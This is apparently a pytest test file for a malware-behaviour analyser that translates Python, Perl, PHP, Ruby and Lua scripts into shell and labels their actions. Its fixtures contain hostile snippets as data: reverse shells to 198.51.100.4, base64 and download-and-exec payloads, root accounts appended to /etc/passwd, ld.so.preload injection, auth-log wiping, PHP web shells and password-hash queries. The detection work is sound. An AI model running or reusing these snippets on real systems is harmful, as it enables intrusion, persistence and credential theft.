"""Python, Perl, PHP, Ruby and Lua, read as the shell script that does the same."""

from __future__ import annotations

from importlib import import_module

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hinomi.evidence.scripts.analysis import analyse
from hinomi.evidence.scripts.detect import REWRITTEN, language_of
from hinomi.evidence.scripts.rewritten import rewritten
from hinomi.evidence.scripts.rewritten.dialects import DIALECTS
from hinomi.evidence.scripts.syntax import parse


def rows(language, text):
    return analyse("/x", text.encode(), language=language).actions


def told(language, text):
    return [(a.action, a.object, a.detail) for a in rows(language, text)]


ACCOUNT = ("adds-account", "acme", "acme:x:0:0::/root:/bin/sh; /")
SHELL = ("executes-code", "connection", "nc -e /bin/sh")
SECRETS = "select user, passhash from accounts"
ONE = {
    ("python", "import os\nos.system('cp /bin/a /bin/b')"): ("copies", "/bin/b", "/bin/a"),
    ("python", "import subprocess as s\ns.Popen(['/opt/agentd', '-d'], stdout=s.DEVNULL)"): ("starts", "/opt/agentd", "-d"),
    ("python", "from os import system as go\nP = '/opt/'\ngo(P + 'agentd')"): ("starts", "/opt/agentd", None),
    ("python", "import os\nos.system('%s -d %s' % ('/opt/agentd', 4))"): ("starts", "/opt/agentd", "-d 4"),
    ("python", "import os\nos.system('{0} -{flag}'.format('/opt/agentd', flag='q'))"): ("starts", "/opt/agentd", "-q"),
    ("python", "import os\nn = 'agentd'\nos.system(f'/opt/{n} -d')"): ("starts", "/opt/agentd", "-d"),
    ("python", "import os\nclass A:\n    def __init__(self): self.p = '/opt/agentd'\n    def go(self): os.system(self.p)\nA().go()"):
        ("starts", "/opt/agentd", None),
    ("python", "with open('/etc/passwd', 'a') as f:\n    f.write('acme:x:0:0::/root:/bin/sh\\n')"): ACCOUNT,
    ("python", "from pathlib import Path\nPath('/etc/ld.so.preload').write_text('/lib/x.so')"):
        ("loads-library", "/lib/x.so", "ld.so.preload"),
    ("python", "import os\nos.remove('/var/log/auth.log')"): ("clears-log", "/var/log/auth.log", None),
    ("python", "import tarfile\nwith tarfile.open('/u/f.bin') as t:\n    t.extractall('/tmp/w')"):
        ("unpacks", "/u/f.bin", "tar /tmp/w"),
    ("python", "import tarfile\nt = tarfile.open('/u/f.bin', 'w:gz')\nt.add('/tmp/w')"): ("repacks", "/u/f.bin", "tar /tmp/w"),
    ("python", "import socket, os\ns = socket.socket()\ns.connect(('198.51.100.4', 443))\nos.dup2(s.fileno(), 0)"): SHELL,
    ("python", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnL2Jpbi9oaWRkZW4gJicp'))"):
        ("starts", "/bin/hidden", None),
    ("python", "import urllib.request as r\nexec(r.urlopen('http://198.51.100.4/a').read())"): ("executes-code", "download", "eval"),
    ("python", "import psycopg2\nc = psycopg2.connect(host='db', dbname='app').cursor()\nc.execute('" + SECRETS + "')"):
        ("queries-database", "db", SECRETS),
    ("perl", "use File::Copy; copy($0, '/etc/init.d/agentd');"): ("persists", "/etc/init.d/agentd", "/x"),
    ("perl", "open(my $f, '>>', '/etc/passwd'); print $f \"acme:x:0:0::/root:/bin/sh\\n\";"): ACCOUNT,
    ("perl", "open(F, '>>/etc/passwd') or die; print F \"acme:x:0:0::/root:/bin/sh\\n\";"): ACCOUNT,
    ("perl", "use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr=>'198.51.100.4', PeerPort=>443); open(STDIN,'>&',$s);"): SHELL,
    ("perl", "use DBI; my $d = DBI->connect('dbi:SQLite:dbname=/v/s.db'); my $r = $d->selectall_arrayref('" + SECRETS + "');"):
        ("queries-database", "/v/s.db", SECRETS),
    ("perl", "eval(decode_base64('c3lzdGVtKCIvYmluL2hpZGRlbiAmIik7'));"): ("starts", "/bin/hidden", None),
    ("php", "<?php system($_GET['c']);"): ("executes-code", "request", "sh -c"),
    ("php", "<?php $f = $_REQUEST['f']; $f($_POST['a']);"): ("executes-code", "request", "eval"),
    ("php", "<?php $x = 'sys' . 'tem'; $x('/opt/agentd');"): ("starts", "/opt/agentd", None),
    ("php", "<?php $db = new SQLite3('/v/s.db'); $r = $db->query('" + SECRETS + "');"): ("queries-database", "/v/s.db", SECRETS),
    ("php", "<?php file_put_contents('/etc/passwd', \"acme:x:0:0::/root:/bin/sh\\n\", FILE_APPEND);"): ACCOUNT,
    ("ruby", "File.open('/etc/passwd', 'a') { |f| f.puts 'acme:x:0:0::/root:/bin/sh' }"): ACCOUNT,
    ("ruby", "require 'fileutils'\nFileUtils.cp('/opt/a', '/etc/init.d/a')"): ("persists", "/etc/init.d/a", "/opt/a"),
    ("ruby", "['/opt/a', '/opt/b'].each { |q| File.delete(q) }"): ("deletes", "/opt/b", None),
    ("lua", "local f = io.open('/etc/passwd', 'a')\nf:write('acme:x:0:0::/root:/bin/sh\\n')"): ACCOUNT,
    ("lua", "os.execute(ngx.var.arg_cmd)"): ("executes-code", "request", "sh -c"),
}  # fmt: skip


@pytest.mark.parametrize(("language", "text"), ONE)
def test_single_actions(language, text):
    assert ONE[language, text] in told(language, text)


WATCHDOGS = [
    ("python", "import subprocess\nif subprocess.call(['pgrep', 'agentd']) != 0:\n    subprocess.Popen(['/opt/agentd'])"),
    ("python", "import subprocess as s\nr = s.run('pidof agentd', shell=True)\nif r.returncode:\n    s.Popen(['/opt/agentd'])"),
    ("python", "import psutil, os\nif not any(p.name() == 'agentd' for p in psutil.process_iter()):\n    os.system('/opt/agentd &')"),
    ("python", "import psutil, os\nn = [p.name() for p in psutil.process_iter()]\nif 'agentd' not in n:\n    os.system('/opt/agentd')"),
    ("python", "import subprocess as s\ntry:\n    s.check_call(['pgrep', 'agentd'])\nexcept s.CalledProcessError:\n    s.Popen(['/opt/agentd'])"),
    ("python", "import os\nif 'agentd' not in os.popen('ps ax').read():\n    os.spawnl(os.P_NOWAIT, '/opt/agentd', 'agentd')"),
    ("python", "import glob, os\ndef up(n):\n    for p in glob.glob('/proc/[0-9]*/cmdline'):\n        if n in open(p).read():\n"
               "            return True\n    return False\nif not up('agentd'):\n    os.system('/opt/agentd')"),
    ("perl", "unless (`pidof agentd`) { system('/opt/agentd &'); }"),
    ("perl", "my $o = `ps aux`; system('/opt/agentd') if $o !~ /agentd/;"),
    ("php", "<?php if (trim(shell_exec('pgrep agentd')) == '') { exec('/opt/agentd > /dev/null 2>&1 &'); }"),
    ("php", "<?php $o = `ps ax`; if (strpos($o, 'agentd') === false) { exec('/opt/agentd &'); }"),
    ("ruby", "unless system('pgrep -x agentd')\n  spawn('/opt/agentd')\nend"),
    ("ruby", "system('/opt/agentd &') if `pgrep agentd`.empty?"),
    ("lua", "local h = io.popen('pidof agentd')\nif h:read('*a') == '' then os.execute('/opt/agentd &') end"),
    ("lua", "if not os.execute('pgrep agentd') then os.execute('/opt/agentd &') end"),
    ("python", "import os\nfor p in os.listdir('/proc'):\n    if 'agentd' in open(f'/proc/{p}/cmdline').read():\n        break\n"
               "else:\n    os.spawnl(os.P_NOWAIT, '/opt/agentd', 'agentd')"),
    ("python", "from pathlib import Path\nP = Path('/proc')\ndef up(n):\n    return any(p.joinpath('comm').read_text().strip() == n\n"
               "               for p in P.iterdir() if p.name.isdigit())\nimport os\nif not up('agentd'):\n    os.system('/opt/agentd')"),
    ("python", "import os\nr = [p for p in os.listdir('/proc') if p.isdigit() and 'agentd' in open('/proc/%s/comm' % p).read()]\n"
               "if len(r) == 0:\n    os.system('/opt/agentd &')"),
    ("python", "import os, pathlib\nif sum(1 for p in pathlib.Path('/proc').glob('*/comm') if p.read_text().startswith('agentd')) < 1:\n"
               "    os.system('/opt/agentd &')"),
    ("python", "import psutil, os\nhit = next((p for p in psutil.process_iter() if p.name() == 'agentd'), None)\nif hit is None:\n    os.system('/opt/agentd')"),
    ("python", "import os\ndef count(n):\n    c = 0\n    for p in os.listdir('/proc'):\n        c += n in open(os.path.join('/proc', p, 'cmdline')).read()\n"
               "    return c\nif count('agentd') == 0:\n    os.system('/opt/agentd')"),
    ("python", "import os, pathlib\nclass W:\n    def __init__(self, n): self.n = n\n    def up(self):\n        for d in os.scandir('/proc'):\n"
               "            if pathlib.Path(d.path, 'comm').read_text().rstrip() == self.n: return True\n        return False\n"
               "    def tick(self):\n        if self.up(): return\n        os.system('/opt/agentd')\nw = W('agentd')\nw.tick()"),
    ("python", "import os\nup = 'agentd' in os.popen('ps ax').read()\nif not up:\n    os.system('/opt/agentd')"),
    ("perl", "my $up = 0;\nopendir(my $d, '/proc');\nfor my $p (grep { /^\\d+$/ } readdir $d) {\n  open(my $f, '<', \"/proc/$p/cmdline\");\n"
             "  my $c = <$f>;\n  $up = 1, last if $c =~ /agentd/;\n}\nsystem('/opt/agentd &') unless $up;"),
    ("perl", "my @l = grep { /agentd/ } `ps -ef`;\nif (!@l) { system('/opt/agentd &'); }"),
    ("ruby", "up = Dir.glob('/proc/[0-9]*/cmdline').any? { |f| File.read(f).include?('agentd') rescue false }\nspawn('/opt/agentd') unless up"),
    ("ruby", "spawn('/opt/agentd') if Dir.glob('/proc/*/comm').none? { |f| File.read(f).strip == 'agentd' }"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text"), WATCHDOGS)
def test_what_is_asked_before_a_start(language, text):
    start = next(a for a in rows(language, text) if a.action == "starts")
    assert (start.object, start.guard_kind, start.guard_object) == ("/opt/agentd", "not-running", "agentd")


LISTENING = [
    "import socket, os\ns = socket.socket()\ntry:\n    s.connect(('127.0.0.1', 4999))\nexcept OSError:\n    os.system('/opt/agentd')",
    "import socket, os\ns = socket.socket()\nif s.connect_ex(('localhost', 4999)) != 0:\n    os.system('/opt/agentd')",
]


@pytest.mark.parametrize("text", LISTENING)
def test_a_start_when_nobody_listens_on_its_port(text):
    start = next(a for a in rows("python", text) if a.action == "starts")
    assert (start.object, start.guard_kind, start.guard_object) == ("/opt/agentd", "not-running", ":4999")


def test_a_connection_elsewhere_asks_for_no_process():
    text = "import socket, os\ns = socket.socket()\ntry:\n    s.connect(('192.0.2.7', 80))\nexcept OSError:\n    os.system('/opt/agentd')"
    start = next(a for a in rows("python", text) if a.action == "starts")
    assert start.guard_kind is None


def test_the_else_of_a_loop_that_nothing_ends_runs_always():
    start = next(
        a
        for a in rows("python", "import os\nfor p in 'ab':\n    print(p)\nelse:\n    os.system('/opt/agentd')")
        if a.action == "starts"
    )
    assert (start.object, start.guard_kind) == ("/opt/agentd", None)


LOOPS = [
    ("python", "import os, time\nwhile True:\n    os.system('/opt/a')\n    time.sleep(60 * 5)"),
    ("python", "import os, time, threading\ndef f():\n    while 1:\n        os.system('/opt/a')\n        time.sleep(300)\nthreading.Thread(target=f).start()"),
    ("perl", "for (;;) { system('/opt/a'); select(undef, undef, undef, 300); }"),
    ("perl", "while (1) { system('/opt/a'); sleep 300; }"),
    ("php", "<?php while (true) { exec('/opt/a'); usleep(300000000); }"),
    ("ruby", "loop do\n  system('/opt/a')\n  sleep 300\nend"),
    ("ruby", "until false do system('/opt/a'); sleep 300 end"),
    ("lua", "repeat os.execute('/opt/a'); os.execute('sleep 300') until false"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text"), LOOPS)
def test_loops_and_their_rhythm(language, text):
    start = next(a for a in rows(language, text) if a.action == "starts")
    assert (start.object, start.in_loop, start.loop_interval) == ("/opt/a", True, 300.0)


def test_lines_are_those_of_the_program():
    text = "import os\n\n\nif os.path.exists('/a'):\n    pass\nelse:\n\n    os.system('/opt/one')\n\nos.system('/opt/two')\n"
    found = [(a.line, a.object, a.guard_kind) for a in rows("python", text) if a.action == "starts"]
    assert found == [(8, "/opt/one", "missing"), (10, "/opt/two", None)]


def test_a_command_that_is_no_shell_breaks_nothing_after_it():
    text = "import os\nos.system(\"echo 'it's; done; fi\")\nos.remove('/opt/two')\n"
    assert ("deletes", "/opt/two", None) in told("python", text)


HONEST = [
    ("python", "import subprocess\nfrom flask import request\ndef run():\n    return subprocess.check_output(['/usr/bin/report', request.args['n']])"),
    ("php", "<?php $h = escapeshellarg($_GET['host']); echo shell_exec('ping -c 1 ' . $h);"),
    ("php", "<?php include 'header.php'; echo htmlspecialchars($_GET['page']);"),
    ("python", "import re\nPATTERN = re.compile('a')\nprint(PATTERN)"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text"), HONEST)
def test_what_a_page_does_of_its_own_is_no_request_to_run_code(language, text):
    assert not [a for a in rows(language, text) if a.action == "executes-code"]


@pytest.mark.parametrize("name", DIALECTS)
def test_every_role_names_a_node_of_its_grammar(name):
    """A word that the grammar does not know would never match."""
    from tree_sitter import Language

    from hinomi.evidence.scripts.syntax import grammar_of

    grammar = Language(grammar_of(DIALECTS[name].grammar))
    kinds = {grammar.node_kind_for_id(number) for number in range(grammar.node_kind_count)}
    assert sorted(DIALECTS[name].roles.keys() - kinds) == []


def test_grammars_are_those_that_are_installed():
    assert DIALECTS.keys() == REWRITTEN
    for dialect in DIALECTS.values():
        assert import_module(f"tree_sitter_{dialect.grammar}")


BY_NAME = {
    "/opt/a.py": "python", "/srv/x.php": "php", "/usr/lib/python3/dist-packages/a.py": None, "/srv/a.inc": None,
    "/srv/node_modules/x/a.py": None, "/opt/a.lua": "lua", "/opt/a.rb": "ruby", "/opt/a.pl": "perl",
}  # fmt: skip


@pytest.mark.parametrize("path", BY_NAME)
def test_languages_by_name(path):
    assert language_of(path.encode(), b"x = 1\n") == BY_NAME[path]


def test_languages_by_interpreter():
    first = {
        "python3.11": "python",
        "/usr/bin/perl": "perl",
        "env ruby": "ruby",
        "/usr/bin/luajit": "lua",
        "php8.2": "php",
    }
    for interpreter, language in first.items():
        program = interpreter if "/" in interpreter else f"/usr/bin/{interpreter}"
        assert language_of(b"/opt/tool", f"#!{program}\n".encode()) == language


WORDS = st.lists(
    st.sampled_from(
        "while if ( ) { } [ ] : ; , . $x @ `ps` 'a' \"b#{c}\" f'{x}' import os os.system subprocess.run exec eval def f"
        " return not in == =~ /x/ end do then else elsif <?php ?> -> :: => function local class try except rescue \n \t"
        " open 'w' write print %s % + .. -e unless <<EOT \\ \x00 é \"\\ud800\" os.system('\\udc80x') `\\uDBFF`".split(
            " "
        )
    ),
    max_size=60,
)


HALVES = {
    "python": b"import os\nos.system('touch \\ud800/tmp/a')\nos.system('rm -f /tmp/\\udc80b')\n",
    "php": b"<?php system(\"touch \\u{d800}/tmp/a\"); system('rm -f /tmp/b');\n",
    "ruby": b"system(\"touch \\ud800/tmp/a\")\nsystem('rm -f /tmp/b')\n",
}


@pytest.mark.parametrize("name", HALVES)
def test_half_a_surrogate_pair_hides_nothing(name):
    found = analyse("/x", HALVES[name], language=name)
    assert {"touch", "rm"} <= set(found.script.commands)
    for action in found.actions:
        (action.object or "").encode("utf-8", "surrogateescape")


@pytest.mark.parametrize("name", DIALECTS)
@given(words=WORDS)
def test_any_text_gives_rows_and_text_that_the_shell_can_read(name, words):
    text = DIALECTS[name].prefix + " ".join(words)
    data = text.encode("utf-8", "surrogateescape")
    found = analyse("/x", data, language=name)
    assert found.script.language == name
    assert rewritten(data, name).count("\n") <= text.count("\n") + 1


@pytest.mark.parametrize("name", DIALECTS)
@pytest.mark.parametrize(
    "text", ["(" * 50_000, "[" * 50_000, "a(" * 30_000, "if x:\n " * 20_000, "x = " * 30_000, "!" * 50_000]
)
def test_deep_nesting_is_bounded(name, text):
    found = analyse("/x", (DIALECTS[name].prefix + text).encode(), language=name, max_size=1 << 18)
    assert len(found.actions) < 10_000


def test_the_written_text_parses():
    for language, text in [*ONE, *WATCHDOGS, *LOOPS]:
        assert not parse("bash", rewritten(text.encode(), language).encode()).root_node.has_error, text
